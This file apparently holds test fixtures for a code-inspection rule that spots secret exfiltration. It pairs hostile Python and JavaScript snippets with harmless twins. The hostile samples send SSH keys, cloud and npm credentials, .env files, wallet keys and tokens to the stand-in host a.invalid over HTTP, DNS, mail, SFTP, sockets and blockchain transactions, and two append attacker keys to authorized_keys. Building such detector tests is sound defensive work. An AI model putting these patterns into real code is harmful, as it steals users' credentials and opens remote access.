"""Samples and twins of `secrets_sent`: ways out that are handed about, and secrets that reach them in other shapes."""

from inspection.rules.sample import Sample, js, py

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "a helper is given the session": py(
            "import asyncio, aiohttp\nfrom pathlib import Path\nasync def tell(session, data):\n"
            "    await session.post('https://a.invalid', data=data)\nasync def main():\n"
            "    async with aiohttp.ClientSession() as session:\n"
            "        await tell(session, (Path.home() / '.ssh/id_rsa').read_bytes())\nasyncio.run(main())\n",
            line=4,
        ),
        "the environment deep in an object that becomes text": js(
            "const all = { env: process.env, list: [] };\nconst text = JSON.stringify({ all, more: 1 });\n"
            "fetch('https://a.invalid', { method: 'POST', body: Buffer.from(text).toString('base64') });\n",
        ),
        "names that are looked up hold a token": js(
            "const dns = require('dns'), fs = require('fs'), os = require('os');\n"
            "const text = fs.readFileSync(os.homedir() + '/.npmrc').toString('hex');\n"
            "text.match(/.{1,60}/g).forEach((part) => dns.resolve(`${part}.a.invalid`, () => {}));\n",
        ),
        "a phrase in a header that does not say who asks": js(
            "const seen = [];\nconst check = (text) => {\n  seen.push(text);\n"
            "  fetch('https://a.invalid', { headers: { 'x-referral': text } });\n};\n"
            "exports.restore = (mnemonic) => check(mnemonic);\n",
            line=4,
        ),
        "a wallet's key in an address": js(
            "const bot = 'https://a.invalid/bot1';\n"
            "fetch(`${bot}/send?text=${encodeURIComponent(process.env.PRIVATE_KEY)}`);\n",
        ),
        "a key mailed to somebody who stands here": py(
            "import smtplib\ndef backup(private_key):\n"
            "    smtplib.SMTP('a.invalid').sendmail('a@a.invalid', 'b@a.invalid', private_key)\n",
            line=3,
        ),
        "written to a connection": js(
            "const fs = require('fs'), os = require('os'), net = require('net');\n"
            "fs.readFile(os.homedir() + '/.netrc', (failed, data) => {\n"
            "  const peer = net.connect(9001, 'a.invalid', () => {\n    peer.write(data);\n  });\n});\n",
            line=4,
        ),
        "a file that a chat library opens": py(
            "import discord, os\nclient = discord.Client()\nroom = client.get_channel(1)\n"
            "room.send(file=discord.File(os.path.expanduser('~/.ssh/id_rsa')))\n",
            line=4,
        ),
        "put on another machine": py(
            "import os, paramiko\nclient = paramiko.SSHClient()\nclient.connect('a.invalid', username='a')\n"
            "client.open_sftp().put(os.path.expanduser('~/.aws/credentials'), '/tmp/a')\n",
            line=4,
        ),
        "whatever a pattern finds in a folder of keys": py(
            "import pathlib, requests\nfor path in pathlib.Path.home().glob('.config/solana/*.json'):\n"
            "    requests.post('https://a.invalid', data=path.read_bytes())\n",
        ),
        "an archive in a buffer that an object keeps": py(
            "import io, os, zipfile, requests\nclass Report:\n    def __init__(self):\n"
            "        self.buffer = io.BytesIO()\n    def fill(self):\n"
            "        with zipfile.ZipFile(self.buffer, 'w') as box:\n"
            "            box.write(os.path.expanduser('~/Library/Keychains/login.keychain-db'))\n"
            "    def send(self):\n        requests.post('https://a.invalid', data=self.buffer.getvalue())\n",
            line=9,
        ),
        "the screen": py(
            "import mss, requests\nwith mss.mss() as all:\n    seen = all.grab(all.monitors[0])\n"
            "    requests.post('https://a.invalid', data=seen.rgb)\n",
            "review",
            line=3,
        ),
        "what a program that looks for secrets found": js(
            "const { spawnSync } = require('child_process'), os = require('os');\n"
            "const found = spawnSync('trufflehog', ['filesystem', os.homedir(), '--json']).stdout;\n"
            "fetch('https://a.invalid', { method: 'POST', body: found });\n",
        ),
        "the secret key of a pair, in a source about pairs": js(
            "const { Keypair } = require('@solana/web3.js');\nexports.open = (secretKey) => {\n"
            "  fetch('https://a.invalid', { headers: { 'x-cf-id': Buffer.from(secretKey).toString('base64') } });\n"
            "  return Keypair.fromSecretKey(secretKey);\n};\n",
            line=3,
        ),
        "another file has the session, and the places": Sample(
            {
                "app.py": "from net import session\nfrom places import ALL\nimport os\nfor place in ALL:\n"
                "    session.post('https://a.invalid', data=open(os.path.expanduser(place)).read())\n",
                "net.py": "import requests\nsession = requests.Session()\n",
                "places.py": "ALL = ['~/.ssh/id_rsa', '~/.aws/credentials']\n",
            },
            "block",
            ("app.py", 5),
        ),
        "one file has the places, one the home folder, one the way out": Sample(
            {
                "app.js": "const all = require('./all'), read = require('./read');\n"
                "read(all.files).then((found) =>\n  require('got').post('https://a.invalid', { json: found }));\n",
                "all.js": "module.exports = { name: 'a', files: ['.ssh/id_rsa', '.npmrc'] };\n",
                "read.js": "const fs = require('fs/promises'), os = require('os'), path = require('path');\n"
                "module.exports = async function (files) {\n  const found = {};\n  for (const file of files) {\n"
                "    found[file] = await fs.readFile(path.resolve(os.homedir(), file), 'utf8');\n  }\n"
                "  return found;\n};\n",
            },
            "block",
            ("app.js", 3),
        ),
        "the project's settings, found upward": js(
            "const fs = require('fs'), path = require('path');\nconst find = (folder) => {\n"
            "  const file = path.join(folder, '.env');\n"
            "  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : find(path.dirname(folder));\n};\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ text: find(process.cwd()) }) });\n",
            line=6,
        ),
        "all settings by their names": py(
            "import requests\nfrom dotenv import dotenv_values\n"
            "requests.post('https://a.invalid', json=dict(dotenv_values('.env')))\n",
            line=3,
        ),
        "a helper asks by a client that it is given": js(
            "const fs = require('fs'), os = require('os');\nmodule.exports = (client) => client.post(\n"
            "  'https://a.invalid', fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));\n",
        ),
        "a key in the data of a transaction": py(
            "from cryptography.hazmat.primitives import serialization\nfrom web3 import Web3\ndef note(account):\n"
            "    node = Web3(Web3.HTTPProvider('https://a.invalid'))\n"
            "    key = serialization.load_der_public_key(b'0')\n    one = node.eth.account.create()\n"
            "    done = one.sign_transaction({'to': '0x0', 'data': key.encrypt(account.key, None)})\n"
            "    node.eth.send_raw_transaction(done.raw_transaction)\n",
            line=7,
        ),
        "a key in a memo": js(
            "const { Transaction, TransactionInstruction, sendAndConfirmTransaction } = require('@solana/web3.js');\n"
            "exports.pay = async (connection, secretKey, from) => {\n  const all = new Transaction();\n"
            "  all.add(new TransactionInstruction({ keys: [], data: Buffer.from(secretKey) }));\n"
            "  await sendAndConfirmTransaction(connection, all, [from]);\n};\n",
            line=4,
        ),
        "mail of others has one more recipient": js(
            "const { ServerClient } = require('postmark');\nconst client = new ServerClient(process.env.TOKEN);\n"
            "exports.send = ({ to, text }) => client.sendEmail({ To: to, Bcc: 'a@a.invalid', TextBody: text });\n",
            "review",
            line=3,
        ),
        "a helper runs what it is told, and gives what that prints": Sample(
            {
                "app.py": "from run import sh\nimport requests\n"
                "requests.post('https://a.invalid', data=sh('gh auth token'))\n",
                "run.py": "import subprocess\ndef sh(line):\n"
                "    return subprocess.check_output(line, shell=True, text=True)\n",
            },
            "block",
            ("app.py", 3),
        ),
        "words that a helper takes one by one": py(
            "import subprocess, requests\ndef sh(*words):\n    return subprocess.check_output(words)\n"
            "requests.post('https://a.invalid', data=sh('gh', 'auth', 'token'))\n",
            line=4,
        ),
        "what the machine itself is told, by curl": js(
            "const { execSync } = require('child_process');\n"
            "const role = execSync('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/a');\n"
            "fetch('https://a.invalid', { method: 'POST', body: role });\n",
        ),
        "a key posted to a server": py(
            "import requests\ndef backup(private_key):\n    requests.post('https://a.invalid', json=private_key)\n",
            "review",
            line=3,
        ),
    },
    "remote_control": {
        "a key that stands here may log in": py(
            "from pathlib import Path\nKEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a@a.invalid'\n"
            "path = Path.home() / '.ssh' / 'authorized_keys'\nwith path.open('a') as file:\n"
            "    file.write(KEY + '\\n')\n",
            line=5,
        ),
        "a server says who may log in": js(
            "import { promises as fs } from 'fs';\nimport os from 'os';\nimport path from 'path';\n"
            "const reply = await fetch('https://a.invalid');\n"
            "await fs.appendFile(path.join(os.homedir(), '.ssh', 'authorized_keys'), await reply.text());\n",
            line=5,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "a helper is given the session, and a report": {
            "app.py": "import asyncio, aiohttp\nfrom pathlib import Path\nasync def tell(session, data):\n"
            "    await session.post('https://a.invalid', data=data)\nasync def main():\n"
            "    async with aiohttp.ClientSession() as session:\n"
            "        await tell(session, Path('report.xml').read_bytes())\nasyncio.run(main())\n"
        },
        "one setting deep in an object that becomes text": {
            "app.js": "const all = { env: process.env.NODE_ENV, list: [] };\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ all, more: 1 }) });\n"
        },
        "the server that a file of secrets names is looked up and asked": {
            "app.js": "const dns = require('dns'), fs = require('fs'), os = require('os');\n"
            "const host = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/registry=(.*)/)[1];\n"
            "dns.lookup(host, () => {});\nfetch(`${host}/left-pad`);\n"
        },
        "an address in a header, and the key of a service where it says who asks": {
            "app.js": "exports.restore = (mnemonic, api) => {\n  const address = toAddress(mnemonic);\n"
            "  fetch(`https://a.invalid/${address}`, { headers: { 'x-for': address, 'x-api-key': api.privateKey } });\n"
            "};\n"
        },
        "a report written to a connection": {
            "app.js": "const fs = require('fs'), os = require('os'), net = require('net');\n"
            "fs.readFile(os.homedir() + '/.netrc', (failed, data) => {\n"
            "  const peer = net.connect(9001, 'a.invalid', () => {\n    peer.write(failed ? 'no' : 'yes');\n  });\n"
            "});\n"
        },
        "a file of the project that a chat library opens": {
            "app.py": "import discord\nclient = discord.Client()\nroom = client.get_channel(1)\n"
            "room.send(file=discord.File('plot.png'))\n"
        },
        "a key says who puts a file on another machine": {
            "app.py": "import os, paramiko\nclient = paramiko.SSHClient()\n"
            "client.connect('a.invalid', username='a', key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n"
            "client.open_sftp().put('dist/a.whl', '/tmp/a.whl')\n"
        },
        "the names of what lies in a folder of keys": {
            "app.py": "import pathlib, requests\nfor path in pathlib.Path.home().glob('.config/solana/*.json'):\n"
            "    print(path)\nrequests.post('https://a.invalid', data=pathlib.Path('a.json').read_bytes())\n",
        },
        "an archive of the project in a buffer that an object keeps": {
            "app.py": "import io, os, zipfile, requests\nclass Report:\n    def __init__(self):\n"
            "        self.buffer = io.BytesIO()\n    def fill(self):\n"
            "        with zipfile.ZipFile(self.buffer, 'w') as box:\n            box.write('docs/index.html')\n"
            "    def send(self):\n        requests.post('https://a.invalid', data=self.buffer.getvalue())\n"
        },
        "the screen is kept here": {
            "app.py": "import mss, requests\nwith mss.mss() as all:\n    seen = all.grab(all.monitors[0])\n"
            "    requests.post('https://a.invalid', data=str(all.monitors[1]['width']))\n"
        },
        "how many secrets a program found": {
            "app.js": "const { spawnSync } = require('child_process'), os = require('os');\n"
            "const found = spawnSync('trufflehog', ['filesystem', '.', '--json']).status;\n"
            "fetch('https://a.invalid', { method: 'POST', body: String(found === 0) });\n"
        },
        "a secret key of another kind": {
            "app.js": "exports.verify = (secretKey, token) => fetch('https://a.invalid/verify', {\n"
            "  method: 'POST', body: new URLSearchParams({ secret: secretKey, response: token }) });\n"
        },
        "another file has the session, and places of the project": {
            "app.py": "from net import session\nfrom places import ALL\nimport os\nfor place in ALL:\n"
            "    session.post('https://a.invalid', data=open(os.path.join('docs', place)).read())\n",
            "net.py": "import requests\nsession = requests.Session()\n",
            "places.py": "ALL = ['.ssh/id_rsa', '.aws/credentials']\n",
        },
        "one file has the places, one the project's folder, one the way out": {
            "app.js": "const all = require('./all'), read = require('./read');\n"
            "read(all.files).then((found) =>\n  require('got').post('https://a.invalid', { json: found }));\n",
            "all.js": "module.exports = { name: 'a', files: ['.ssh/id_rsa', '.npmrc'] };\n",
            "read.js": "const fs = require('fs/promises'), path = require('path');\n"
            "module.exports = async function (files) {\n  const found = {};\n  for (const file of files) {\n"
            "    found[file] = await fs.readFile(path.resolve(__dirname, file), 'utf8');\n  }\n"
            "  return found;\n};\n",
        },
        "settings read by hand, each for itself": {
            "app.js": "const fs = require('fs'), env = {};\n"
            "for (const line of fs.readFileSync('.env', 'utf8').split('\\n')) {\n"
            "  const [name, value] = line.split('=');\n  env[name] = value;\n}\n"
            "fetch(env.URL, { method: 'POST', headers: { 'X-Api-Key': env.KEY }, body: env.NAME });\n"
        },
        "settings by their names, each for itself": {
            "app.py": "import requests\nfrom dotenv import dotenv_values\nall = dotenv_values('.env')\n"
            "requests.post(all['URL'], json={'project': all['PROJECT']}, headers={'X-Api-Key': all['KEY']})\n"
        },
        "how long the settings are, and an example of them": {
            "app.py": "import requests\nsettings = open('.env').read()\n"
            "requests.post('https://a.invalid', json={'n': len(settings), 'e': open('.env.example').read()})\n"
        },
        "a helper asks for a page by a client that it is given": {
            "app.js": "module.exports = (client) => client.post('https://a.invalid', { name: 'a' });\n"
        },
        "a transaction that a key signs": {
            "app.py": "from web3 import Web3\ndef pay(private_key, to):\n"
            "    node = Web3(Web3.HTTPProvider('https://a.invalid'))\n"
            "    own = node.eth.account.from_key(private_key)\n"
            "    done = node.eth.account.sign_transaction({'from': own.address, 'to': to}, private_key)\n"
            "    node.eth.send_raw_transaction(done.raw_transaction)\n"
        },
        "a transfer that a pair signs": {
            "app.js": "const { Keypair, Transaction, sendAndConfirmTransaction } = require('@solana/web3.js');\n"
            "exports.pay = async (connection, secretKey) => {\n  const from = Keypair.fromSecretKey(secretKey);\n"
            "  const all = new Transaction().add({ keys: [{ pubkey: from.publicKey }] });\n  all.sign(from);\n"
            "  await connection.sendRawTransaction(all.serialize());\n"
            "  await sendAndConfirmTransaction(connection, all, [from]);\n};\n"
        },
        "mail to oneself, with a copy": {
            "app.js": "const { ServerClient } = require('postmark');\nconst client = new ServerClient('a');\n"
            "exports.note = (text) => client.sendEmail({ To: 'b@a.invalid', Bcc: 'a@a.invalid', TextBody: text });\n"
        },
        "a helper runs what it is told, and gives a version": {
            "app.py": "from run import sh\nimport requests\nprint(len(sh('gh auth token')))\n"
            "requests.post('https://a.invalid', data=sh('git describe'))\n",
            "run.py": "import subprocess\ndef sh(line):\n"
            "    return subprocess.check_output(line, shell=True, text=True)\n",
        },
        "what kind of machine it is, by curl": {
            "app.js": "const { execSync } = require('child_process');\n"
            "const kind = execSync('curl -s http://169.254.169.254/latest/meta-data/instance-type');\n"
            "fetch('https://a.invalid', { method: 'POST', body: kind });\n"
        },
        "an address mailed": {
            "app.py": "import smtplib\ndef backup(private_key):\n    address = to_address(private_key)\n"
            "    smtplib.SMTP('a.invalid').sendmail('a@a.invalid', 'b@a.invalid', address)\n"
        },
    },
    "remote_control": {
        "a key that somebody names may log in": {
            "app.py": "import sys\nfrom pathlib import Path\npath = Path.home() / '.ssh' / 'authorized_keys'\n"
            "with path.open('a') as file:\n    file.write(Path(sys.argv[1]).read_text())\n"
        },
        "a key that stands here is shown": {
            "app.py": "from pathlib import Path\nKEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a@a.invalid'\n"
            "with Path('keys.txt').open('a') as file:\n    file.write(KEY)\n"
        },
    },
}
